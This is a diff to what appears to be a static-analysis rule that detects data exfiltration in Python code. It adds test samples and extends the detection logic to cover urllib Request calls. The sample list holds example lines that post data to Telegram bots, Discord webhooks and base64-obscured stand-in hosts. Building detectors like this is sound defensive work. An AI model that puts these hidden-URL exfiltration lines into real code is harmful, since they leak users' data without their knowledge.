@@ -317,11 +317,13 @@ export const exfiltration: CodeRule = {
       'u = "https://api.telegram.org/bot1234567890:AAabcdefghijklmnopqrstuvwxyz123456789/sendDocument"',
       'import requests\nid = "123456789012345678"\nrequests.post("https://discord.com/api/webhooks/" + id + "/abcdefghijklmnopqrstuvwxyz_ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcd")',
       'import requests, base64\nrequests.post(base64.b64decode("aHR0cHM6Ly9leGFtcGxlLnRlc3QvYw==").decode(), data=x)',
+      'import urllib.request as u, base64\nu.urlopen(u.Request(base64.b64decode("aHR0cHM6Ly9leGFtcGxlLnRlc3QvYw==").decode(), data=x))',
       'import requests, base64\nrequests.post("https://example.test/" + base64.b64decode("aW5ib3gvY29sbGVjdG9yL3YxL3B1c2g=").decode(), data=x)',
     ],
     harmless: [
       'u = f"https://discord.com/api/webhooks/{user_id}/{token}"',
       'u = "https://discord.com/invite/abc"',
+      'import urllib.request as u, base64\nu.urlopen(u.Request("https://example.test/edit", data=base64.b64decode(picture)))',
       'u = f"https://api.telegram.org/bot{token}/sendMessage"',
       'import base64, urllib.request\ndef post(url, picture):\n    urllib.request.urlopen(urllib.request.Request(url, data=base64.b64decode(picture)))\npost("https://example.test/v1", x)',
       'import requests, base64, os\nkey = base64.b64decode(os.environ["MY_KEY"]).decode()\nrequests.post(f"https://example.test/v1?key={key}", json={"a": 1})',
@@ -330,7 +332,8 @@ export const exfiltration: CodeRule = {
   *find(facts) {
     yield* textHits(facts, receivers)
     for (const call of facts.calls) {
-      if (!isSending(call)) continue
+      const isRequest = /^(urllib\.request|requests)\.Request$/.test(call.name)
+      if (!isRequest && !isSending(call)) continue
       const address = argumentOf(call, 0, 'url')
       const isPost = !/\.(get|urlopen|urlretrieve|gethostbyname)$/.test(call.name)
       const where = call.args
@@ -341,6 +344,7 @@ export const exfiltration: CodeRule = {
       if (where) yield { line: call.line, message: where }
       else if (
         has(address, 'decoded') &&
+        !address?.names.some((name) => /Request\(\)$/.test(name)) &&
         (isHidden(address, facts.text) || (isPost && address?.texts.every((text) => hostOf(text) === ''))) &&
         !has(address, 'network')
       )
